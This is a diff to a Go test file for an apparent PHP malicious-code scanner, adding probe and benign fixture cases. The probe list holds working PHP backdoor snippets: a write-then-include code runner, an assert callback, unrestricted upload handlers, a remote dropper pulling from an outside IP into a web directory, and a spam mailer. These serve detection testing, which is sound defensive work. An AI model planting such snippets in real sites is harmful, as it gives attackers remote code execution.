@@ -89,6 +89,7 @@ var probes = []struct{ name, rule, src string }{
 	{"filter callback", "php.exec-input", `<?php filter_var($_REQUEST['op'], FILTER_CALLBACK, array('options' => 'assert'));`},
 	{"upload saved as a script", "php.upload", "<form enctype=multipart/form-data method=post><input name=userfile type=file></form>\n<?php move_uploaded_file($userfile, 'up.php');"},
 	{"upload under the client's name after an empty directory", "php.upload", `<?php $dir = ""; $name = $_FILES['f']['name']; move_uploaded_file($_FILES['f']['tmp_name'], $dir . $name);`},
+	{"write then include", "php.exec-input", `<?php if (isset($_GET['c'])) { file_put_contents('./cache.txt', "<?php\n"); file_put_contents('./cache.txt', $_GET['c'], FILE_APPEND); require 'cache.txt'; }`},
 	{"remote copy", "php.remote-dropper", `<?php copy("http://203.0.113.5/x.txt", "../cache/index.php");`},
 	{"spam mailer", "php.mailer", `<?php $to = explode("\n", $_POST['emails']); $h = "From: " . $_POST['from'] . "\r\n";
 		for ($i = 0; $i < count($to); $i++) { mail($to[$i], $_POST['subject'], stripslashes($_POST['body']), $h); }`},
@@ -127,6 +128,7 @@ var benign = []struct{ name, src string }{
 	{"tagless text about PHP", "To read a form field use $_POST['name'] and never pass it to eval().\n"},
 	{"filter callback trim", `<?php $n = filter_var($_POST['name'], FILTER_CALLBACK, array('options' => 'trim'));`},
 	{"avatar upload", `<?php $n = md5(uniqid()) . ".jpg"; move_uploaded_file($_FILES['avatar']['tmp_name'], "avatars/" . $n);`},
+	{"log then include config", `<?php file_put_contents('logs/access.log', $_SERVER['REQUEST_URI'] . "\n", FILE_APPEND); include 'config.php';`},
 	{"feed cache", `<?php $xml = file_get_contents("https://example.com/feed.xml"); file_put_contents("cache/feed.xml", $xml);`},
 	{"downloaded archive", `<?php copy("https://downloads.example.com/plugin.zip", "/tmp/plugin.zip"); $z = new ZipArchive(); $z->open("/tmp/plugin.zip");`},
 }
